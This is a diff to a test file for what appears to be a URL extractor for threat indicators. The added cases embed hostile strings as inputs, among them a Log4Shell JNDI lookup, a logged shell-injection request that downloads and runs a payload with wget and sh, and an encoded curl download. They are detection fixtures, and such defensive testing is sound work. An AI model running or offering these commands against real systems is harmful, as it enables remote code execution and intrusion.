@@ -143,6 +143,29 @@ testFinds('URLs are found, and end where a person would end them', [
     '$u = "http://evil.com/x" ; (nw "http://evil.com/x")',
     'url http://evil.com/x · url http://evil.com/x',
   ],
+  ['${jndi:rmi://x.evil.top/b}', 'url rmi://x.evil.top/b'],
+  [
+    'at e.exports (https://cdn.evil.com/js/main.js:2:1234) and http://evil.com/a.ts:12',
+    'url https://cdn.evil.com/js/main.js · url http://evil.com/a.ts',
+  ],
+  [
+    'http://evil.com:8080 and http://evil.com/b:8080',
+    'url http://evil.com:8080 · url http://evil.com/b:8080',
+  ],
+  [
+    '"GET /shell?cd+/tmp;wget+http://45.77.12.34/jaws;sh+/tmp/jaws HTTP/1.1" 404 0',
+    'url http://45.77.12.34/jaws',
+    'url',
+  ],
+  ['q=curl%20http://evil.com/x.sh%20-o%20x', 'url http://evil.com/x.sh'],
+  ['http: //evil.com/x and hxxps: //evil.com/y', 'url http://evil.com/x · url https://evil.com/y'],
+  ['http://3232235777/ http://1.1/', 'url http://3232235777/ · url http://1.1/'],
+  [
+    'Content-Transfer-Encoding: quoted-printable\n\nsee http://evil.com/long/pa=\nth/x=C3=A4.html',
+    'url http://evil.com/long/path/xä.html',
+  ],
+  ['<a href=3D"http://evil.com/x?a=3D1&amp;b=3D2">', 'url http://evil.com/x?a=1&b=2'],
+  ['http://evil.com/x?a=3D1', 'url http://evil.com/x?a=3D1'],
   ['http://evil.com/x* and http://evil.com/x_', 'url http://evil.com/x · url http://evil.com/x_'],
   [
     '\ufeffevil.com \u202aevil.com\u202c \u2066evil.com\u2069 🔥evil.com🔥 （evil.com） 【http://evil.com/x】',
@@ -155,6 +178,8 @@ testFinds('URLs are found, and end where a person would end them', [
 ]);
 
 testFinds('what is no URL is not found', [
+  ['http://256.1.1.1/ http://1.1.1.1.1/', ''],
+  ['label: //evil and note: //x', ''],
   ['f"http://{host}/x" http://<c2>/gate http://%s/%s https://www. http://', ''],
   ['data:text/html;base64,PHNjcmlwdD4= javascript:alert(1) about:blank tel:+1-202-555-0123', ''],
 ]);
